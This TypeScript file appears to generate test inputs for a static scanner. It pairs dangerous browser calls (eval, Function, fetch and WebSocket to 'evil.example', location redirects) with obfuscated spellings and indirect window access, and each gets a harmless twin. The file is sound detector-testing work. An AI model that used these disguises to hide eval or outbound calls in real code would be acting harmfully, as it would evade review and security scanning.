/** Draws one item of a list at random. */
export type Draw = <T>(list: readonly T[]) => T;

/** A dangerous act: a member of the window, code that uses the member, and the rule of the expected finding. */
interface Act {
  rule: string;
  name: string;
  use: (member: string) => string;
}

const ACTS: readonly Act[] = [
  { rule: "eval", name: "eval", use: (member) => `${member}("go()")` },
  { rule: "eval", name: "Function", use: (member) => `${member}("return 1")()` },
  { rule: "external-request", name: "fetch", use: (member) => `${member}("https://evil.example/c")` },
  { rule: "external-request", name: "WebSocket", use: (member) => `new (${member})("wss://evil.example")` },
  { rule: "redirect", name: "location", use: (member) => `${member} = "https://evil.example"` },
  { rule: "redirect", name: "location", use: (member) => `${member}.assign("https://evil.example")` },
];
/** Members of the window that are used in the same way but are harmless. */
const TWINS: readonly Omit<Act, "rule">[] = [
  { name: "alert", use: (member) => `${member}("go()")` },
  { name: "String", use: (member) => `${member}("return 1").trim()` },
  { name: "parseInt", use: (member) => `${member}("https://evil.example/c")` },
  { name: "Date", use: (member) => `new (${member})("wss://evil.example")` },
  { name: "status", use: (member) => `${member} = "https://evil.example"` },
  { name: "console", use: (member) => `${member}.log("https://evil.example")` },
];

const quote = (text: string) => JSON.stringify(text);
const codes = (text: string, shift = 0) => [...text].map((letter) => letter.charCodeAt(0) + shift).join(",");
const reversed = (text: string) => [...text].reverse().join("");
const decode = (body: string) => (text: string) =>
  `((c) => { let s = ""; ${body} return s; })([${codes(text, 1)}])`;

/** Expressions whose value is a text. */
const SPELLINGS: readonly ((text: string) => string)[] = [
  quote,
  (text) => `${quote(text.slice(0, 2))} + ${quote(text.slice(2))}`,
  (text) => `[${[...text].map(quote).join(", ")}].join("")`,
  (text) => `${quote(reversed(text))}.split("").reverse().join("")`,
  (text) => `String.fromCharCode(${codes(text)})`,
  (text) => `atob(${quote(btoa(text))})`,
  (text) => `[${codes(text, 3)}].map((c) => String.fromCharCode(c - 3)).join("")`,
  (text) => `[${[...text].map(quote).join(", ")}].reduce((a, b) => a + b, "")`,
  (text) => `${quote(`x${text}`)}.slice(1)`,
  (text) =>
    `${quote(text.toUpperCase())}.replace(/./g, (c) => ({ ${[...new Set(text)].map((c) => `${c.toUpperCase()}: ${quote(c)}`).join(", ")} })[c])`,
  (text) => `\`${text.slice(0, 1)}\${${quote(text.slice(1))}}\``,
  decode("for (const n of c) s += String.fromCharCode(n - 1);"),
  decode("for (let i = 0; i < c.length; i++) { s += String.fromCharCode(c[i] - 1); }"),
  decode("let i = 0; while (i < c.length) { s = s.concat(String.fromCharCode(c[i] - 1)); i += 1; }"),
  decode("const out = []; c.forEach((n) => out.push(String.fromCharCode(n - 1))); s = out.join('');"),
];

/** Programs that read a member of the window by its name. `use` makes the statement that uses the member. */
const ACCESSES: readonly ((name: string, use: (member: string) => string) => string)[] = [
  (name, use) => use(`window[${name}]`),
  (name, use) => `const w = globalThis; const k = ${name}; ${use("w[k]")};`,
  (name, use) => `const o = { w: self }; ${use(`o.w[${name}]`)};`,
  (name, use) => `const [w] = [document.defaultView]; ${use(`w[${name}]`)};`,
  (name, use) => `function get() { return window; } ${use(`get()[${name}]`)};`,
  (name, use) => `class A { w = window; run() { ${use(`this.w[${name}]`)}; } } new A().run();`,
  (name, use) => `((w, k) => { ${use("w[k]")}; })(window, ${name});`,
  (name, use) => `const k = Object.assign({}, { n: ${name} }); ${use("top[k.n]")};`,
];
/** Components and control structures around the statement. */
const PLACES: readonly ((code: string) => string)[] = [
  (code) => code,
  (code) => `export const A = () => { useEffect(() => { ${code} }, []); return null; };`,
  (code) => `export function A() { return <button onClick={() => { ${code} }}>x</button>; }`,
  (code) => `if (Math.random() > 2) { ${code} }`,
  (code) => `try { throw 1; } catch { ${code} }`,
];

/** Draws a disguise of a dangerous act, and a harmless program of the same shape. */
export function drawDisguise(draw: Draw): { rule: string; source: string; twin: string } {
  const at = draw(ACTS.map((_, index) => index));
  const [spell, access, place] = [draw(SPELLINGS), draw(ACCESSES), draw(PLACES)];
  const make = ({ name, use }: Omit<Act, "rule">) => place(access(spell(name), use));
  const [act, twin] = [ACTS[at] as Act, TWINS[at] as Act];
  return { rule: act.rule, source: make(act), twin: make(twin) };
}
